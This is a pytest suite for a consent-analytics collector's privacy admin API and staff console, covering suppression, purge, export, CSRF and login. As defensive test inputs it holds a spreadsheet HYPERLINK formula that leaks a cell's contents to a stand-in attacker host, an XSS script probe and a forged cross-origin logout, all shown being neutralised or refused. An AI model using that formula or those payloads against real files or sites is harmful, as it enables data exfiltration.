"""The admin API and the staff page on a started collector (TestClient)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from support.privacy import (
    ADMIN,
    COLLECT,
    MARKETER_TOKEN,
    ORIGIN,
    STAFF,
    STAFF_PASSWORD,
    STAFF_TOKEN,
    vid,
    why,
    wire_event,
)

from consent_mw.capture.suppression import SuppressionList
from consent_mw.wire import encode_batch

AUTH = {"Authorization": f"Bearer {ADMIN}"}


def post_events(client: Any, events: list[dict[str, Any]]) -> dict[str, Any]:
    body = encode_batch(events, batch_id=vid(), sent_at=events[0]["ts"])
    resp = client.post("/v1/events", content=body, headers={
        "Authorization": f"Bearer {COLLECT}", "Content-Encoding": "gzip",
        "Content-Type": "application/json"})
    assert resp.status_code == 200, resp.text
    return dict(resp.json())


@pytest.mark.parametrize(("headers", "status"), [
    ({}, 401), ({"Authorization": "Bearer wrong"}, 403), ({"Authorization": "Basic x"}, 401),
])
@pytest.mark.parametrize(("method", "path"), [
    ("POST", "/v1/privacy/suppress"), ("POST", "/v1/privacy/purge"),
    ("GET", "/v1/privacy/export?visitor_id=abc"), ("GET", "/v1/privacy/requests"),
    ("GET", "/v1/privacy/audit/verify"),
])
def test_admin_routes_refuse_missing_and_wrong_tokens(
    client: Any, method: str, path: str, headers: dict[str, str], status: int
) -> None:
    resp = client.request(method, path, headers=headers, json={"visitor_id": vid()})
    assert resp.status_code == status


@pytest.mark.parametrize("body", [
    {"visitor_id": "a" * 32, "user_id": "u"}, {"visitor_id": "bad id"}, {}, {"visitor_id": 5},
])
def test_both_ids_or_a_malformed_id_is_a_400(client: Any, body: dict[str, Any]) -> None:
    resp = client.post("/v1/privacy/purge", headers=AUTH, json=body)
    assert resp.status_code == 400
    assert resp.json()["error"] == "bad_request"


def test_an_oversized_body_is_a_413_and_nothing_is_recorded(client: Any, service: Any) -> None:
    body = {"visitor_id": vid(), "reason": "x" * 20_000, "requested_by": "dpo"}
    resp = client.post("/v1/privacy/suppress", headers=AUTH, json=body)
    assert resp.status_code == 413 and resp.json()["error"] == "too_large"
    assert service.store.scalar("SELECT count() FROM privacy_requests") == 0


def test_suppression_drops_new_events_at_ingest_and_unsuppress_restores(
    client: Any, service: Any
) -> None:
    target, other = vid(), vid()
    post_events(client, [wire_event(visitor_id=target), wire_event(visitor_id=other)])
    resp = client.post("/v1/privacy/suppress", headers=AUTH,
                       json={"visitor_id": target, "reason": "Art. 7", "requested_by": "dpo"})
    assert resp.status_code == 200
    result = post_events(client, [wire_event(visitor_id=target), wire_event(visitor_id=other)])
    assert result["suppressed"] == 1
    client.post("/v1/privacy/unsuppress", headers=AUTH, json=why(visitor_id=target))
    assert post_events(client, [wire_event(visitor_id=target)])["suppressed"] == 0
    counts = dict(service.store.rows("SELECT visitor_id, count() FROM events GROUP BY 1"))
    assert counts == {target: 2, other: 2}


def test_in_process_capture_list_follows_suppressions(client: Any, service: Any) -> None:
    sl = SuppressionList(service.settings.hash_key_bytes)
    service.privacy.attach(sl)
    target = vid()
    client.post("/v1/privacy/suppress", headers=AUTH, json=why(visitor_id=target))
    assert sl.is_suppressed(visitor_id=target)
    client.post("/v1/privacy/unsuppress", headers=AUTH, json=why(visitor_id=target))
    assert not sl.is_suppressed(visitor_id=target)


def test_suppression_list_endpoint_takes_the_collector_token(client: Any) -> None:
    target = vid()
    client.post("/v1/privacy/suppress", headers=AUTH, json=why(visitor_id=target))
    assert client.get("/v1/privacy/suppressions").status_code == 401
    assert client.get("/v1/privacy/suppressions",
                      headers={"Authorization": "Bearer nope"}).status_code == 401
    resp = client.get("/v1/privacy/suppressions", headers={"Authorization": f"Bearer {COLLECT}"})
    assert resp.status_code == 200
    body = resp.json()
    assert len(body["hashes"]) == 1 and target not in body["hashes"] and body["version"] > 0


def test_purge_export_and_audit_through_the_api(client: Any) -> None:
    target = vid()
    post_events(client, [wire_event(visitor_id=target, path=f"/p{i}") for i in range(4)])
    export = client.get("/v1/privacy/export", headers=AUTH, params=why(visitor_id=target))
    assert export.status_code == 200
    assert "attachment" in export.headers["content-disposition"]
    assert sorted(e["path"] for e in export.json()["events"]) == ["/p0", "/p1", "/p2", "/p3"]

    zipped = client.get("/v1/privacy/export", headers=AUTH,
                        params=why(visitor_id=target, format="csv"))
    names = zipfile.ZipFile(io.BytesIO(zipped.content)).namelist()
    assert sorted(names) == ["consent_records.csv", "events.csv", "receipts.csv",
                             "subject.json", "suppressions.csv"]

    receipt = client.post("/v1/privacy/purge", headers=AUTH,
                          json={"visitor_id": target, "reason": "r", "requested_by": "dpo"})
    assert receipt.status_code == 200
    assert receipt.json()["rows_deleted"]["events"] == 4 and receipt.json()["remaining"] == 0
    assert client.get("/v1/privacy/export", headers=AUTH,
                      params=why(visitor_id=target)).json()["events"] == []
    ops = [r["operation"] for r in client.get("/v1/privacy/requests", headers=AUTH).json()[
        "requests"]]
    assert ops[:3] == ["export", "purge", "purge"]
    assert client.get("/v1/privacy/audit/verify", headers=AUTH).json()["ok"] is True
    assert len(client.get("/v1/privacy/receipts", headers=AUTH).json()["receipts"]) == 1


def test_export_and_purge_cover_interaction_events(client: Any) -> None:
    target, other = vid(), vid()
    formula = '=HYPERLINK("http://evil.example/leak/"&A1)'  # no query: none is kept
    clicked = wire_event(visitor_id=target, kind="interaction", name="form", path="/reserve",
                         target_path=formula, target="＠form")
    scrolled = wire_event(visitor_id=target, kind="interaction", name="scroll",
                          scroll_depth=50)
    engaged = wire_event(visitor_id=other, kind="interaction", name="engaged",
                         engaged_seconds=30)
    for event in (clicked, scrolled, engaged):
        del event["status"]  # the beacon reports no response status
    post_events(client, [wire_event(visitor_id=target), clicked, scrolled, engaged])

    exported = client.get("/v1/privacy/export", headers=AUTH,
                          params=why(visitor_id=target)).json()["events"]
    by_name = {e["name"]: e for e in exported}
    assert sorted(by_name) == ["form", "pageview", "scroll"]
    assert by_name["form"]["kind"] == "interaction"
    assert (by_name["form"]["target_path"], by_name["form"]["target"]) == (formula, "＠form")
    assert by_name["scroll"]["scroll_depth"] == 50
    assert by_name["pageview"]["target_path"] == "" and by_name["pageview"]["scroll_depth"] == 0

    zipped = client.get("/v1/privacy/export", headers=AUTH,
                        params=why(visitor_id=target, format="csv"))
    text = zipfile.ZipFile(io.BytesIO(zipped.content)).read("events.csv").decode()
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(text))}
    # The spreadsheet gets the text, never a formula (collector.csvsafe, the one neutraliser).
    assert rows["form"]["target_path"] == "'" + formula
    assert rows["form"]["target"] == "'＠form"
    assert (rows["scroll"]["kind"], rows["scroll"]["scroll_depth"]) == ("interaction", "50")
    assert "engaged_seconds" in rows["scroll"]

    receipt = client.post("/v1/privacy/purge", headers=AUTH,
                          json={"visitor_id": target, "reason": "r", "requested_by": "dpo"})
    assert receipt.json()["rows_deleted"]["events"] == 3 and receipt.json()["remaining"] == 0
    assert client.get("/v1/privacy/export", headers=AUTH,
                      params=why(visitor_id=target)).json()["events"] == []
    left = client.get("/v1/privacy/export", headers=AUTH,
                      params=why(visitor_id=other)).json()["events"]
    assert [(e["name"], e["engaged_seconds"]) for e in left] == [("engaged", 30)]


def login(client: Any) -> None:
    resp = client.post("/v1/privacy/staff/login", headers=ORIGIN, follow_redirects=False,
                       data={"username": STAFF, "password": STAFF_PASSWORD})
    assert resp.status_code == 303


def test_staff_page_needs_a_login_and_escapes_what_it_shows(client: Any) -> None:
    page = client.get("/v1/privacy/staff")
    assert 'name="password"' in page.text  # the login form
    wrong = client.post("/v1/privacy/staff/login", headers=ORIGIN,
                        data={"username": STAFF, "password": "nope"})
    assert wrong.status_code == 401
    login(client)
    shown = client.get("/v1/privacy/staff", params={"id_type": "visitor_id",
                                                    "id": "<script>x</script>"})
    assert "<script>x" not in shown.text and "&lt;script&gt;" in shown.text


def test_staff_purge_requires_the_confirmation_and_a_csrf_token_and_names_the_person(
        client: Any, service: Any) -> None:
    target = vid()
    post_events(client, [wire_event(visitor_id=target)])
    login(client)
    page = client.get("/v1/privacy/staff", params={"id_type": "visitor_id", "id": target})
    csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
    form = {"action": "purge", "id_type": "visitor_id", "id": target, "reason": "asked"}
    assert client.post("/v1/privacy/staff/action", headers=ORIGIN,
                       data={**form, "csrf": "x", "confirm": "PURGE"}).status_code == 403
    unconfirmed = client.post("/v1/privacy/staff/action", headers=ORIGIN,
                              data={**form, "csrf": csrf, "confirm": "yes"})
    assert "not confirmed" in unconfirmed.text
    assert service.store.scalar("SELECT count() FROM events") == 1
    done = client.post("/v1/privacy/staff/action", headers=ORIGIN,
                       data={**form, "csrf": csrf, "confirm": "PURGE"})
    assert "purge: done" in done.text
    assert service.store.scalar("SELECT count() FROM events") == 0
    exported = client.get("/v1/privacy/staff/export", params={"id_type": "visitor_id",
                                                              "id": target})
    assert json.loads(exported.text)["events"] == []
    who = {r["requested_by"] for r in service.store.dicts(
        "SELECT requested_by FROM privacy_requests")}
    assert who == {STAFF}
    receipt = service.privacy.receipts()[0]
    assert receipt["requested_by"] == STAFF


def test_the_staff_console_says_the_store_is_unavailable_instead_of_a_500(
        client: Any, service: Any) -> None:
    login(client)
    page = client.get("/v1/privacy/staff")
    csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
    service.stop()  # the store goes away under a logged-in person
    acted = client.post("/v1/privacy/staff/action", headers=ORIGIN, data={
        "action": "suppress", "id_type": "visitor_id", "id": vid(), "reason": "asked",
        "csrf": csrf})
    exported = client.get("/v1/privacy/staff/export",
                          params={"id_type": "visitor_id", "id": vid()})
    for answer in (acted, exported):
        assert answer.status_code == 503, answer.text
        assert answer.text == "The store is unavailable; try again shortly."
        assert answer.headers["retry-after"] == "5"


def test_a_personal_token_acts_as_its_owner_whatever_the_body_claims(
        client: Any, service: Any) -> None:
    target = vid()
    mine = {"Authorization": f"Bearer {STAFF_TOKEN}"}
    resp = client.post("/v1/privacy/suppress", headers=mine,
                       json=why(visitor_id=target, requested_by="someone-else"))
    assert resp.status_code == 200
    rows = service.store.dicts("SELECT requested_by FROM privacy_requests")
    assert [r["requested_by"] for r in rows] == [STAFF]


def test_the_shared_admin_token_must_name_the_person_and_is_marked(
        client: Any, service: Any) -> None:
    target = vid()
    anonymous = client.post("/v1/privacy/suppress", headers=AUTH,
                            json={"visitor_id": target, "reason": "r"})
    assert anonymous.status_code == 400 and "requested_by" in anonymous.json()["message"]
    no_reason = client.post("/v1/privacy/purge", headers=AUTH,
                            json={"visitor_id": target, "requested_by": "sato"})
    assert no_reason.status_code == 400 and "reason" in no_reason.json()["message"]
    named = client.post("/v1/privacy/suppress", headers=AUTH,
                        json=why(visitor_id=target, requested_by="sato"))
    assert named.status_code == 200
    rows = service.store.dicts("SELECT requested_by FROM privacy_requests")
    assert [r["requested_by"] for r in rows] == ["sato [admin token]"]


def test_a_marketing_account_cannot_act_on_visitors_rights(client: Any) -> None:
    resp = client.post("/v1/privacy/suppress", json=why(visitor_id=vid()),
                       headers={"Authorization": f"Bearer {MARKETER_TOKEN}"})
    assert resp.status_code == 403


def test_staff_logout_ends_the_session_for_every_copy_of_the_cookie(client: Any) -> None:
    login(client)
    stolen = client.cookies.get("cmw_staff")
    page = client.get("/v1/privacy/staff")
    csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
    forged = client.post("/v1/privacy/staff/logout", data={"csrf": csrf},
                         headers={"Origin": "https://evil.example"})
    assert forged.status_code == 403  # another site cannot log staff out
    assert client.post("/v1/privacy/staff/logout", data={"csrf": csrf}, headers=ORIGIN,
                       follow_redirects=False).status_code == 303
    client.cookies.set("cmw_staff", stolen)
    assert 'name="password"' in client.get("/v1/privacy/staff").text


def test_an_unchanged_suppression_list_is_not_sent_again(client: Any) -> None:
    collector = {"Authorization": f"Bearer {COLLECT}"}
    client.post("/v1/privacy/suppress", headers=AUTH, json=why(visitor_id=vid()))
    full = client.get("/v1/privacy/suppressions", headers=collector).json()
    same = client.get("/v1/privacy/suppressions", headers=collector,
                      params={"since": full["version"]}).json()
    assert same == {"version": full["version"], "unchanged": True}
    client.post("/v1/privacy/suppress", headers=AUTH, json=why(visitor_id=vid()))
    newer = client.get("/v1/privacy/suppressions", headers=collector,
                       params={"since": full["version"]}).json()
    assert len(newer["hashes"]) == 2 and newer["version"] > full["version"]
